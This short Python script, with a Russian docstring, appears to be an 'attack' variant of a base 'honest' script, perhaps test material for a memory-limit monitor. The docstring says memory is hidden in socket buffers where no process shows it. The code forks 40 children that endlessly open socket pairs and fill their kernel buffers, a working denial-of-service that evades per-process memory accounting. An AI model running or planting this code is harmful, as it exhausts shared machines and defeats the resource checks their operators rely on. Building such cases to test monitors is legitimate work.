"""Нападение: память прячут в буферах сокетов, где её не видно ни у одного процесса."""

# %% base ../honest

# %% extra after=setup
import os
import socket
import time


def flood():
    kept = []
    while True:
        kept += socket.socketpair()
        for end in kept[-2:]:
            end.setblocking(False)
            try:
                while end.send(bytes(1 << 16)):
                    pass
            except BlockingIOError:
                pass


print("сокеты наполняются")

# %% extra after=setup
for _ in range(40):
    if os.fork() == 0:
        try:
            flood()
        finally:
            time.sleep(60)
            os._exit(0)
time.sleep(20)
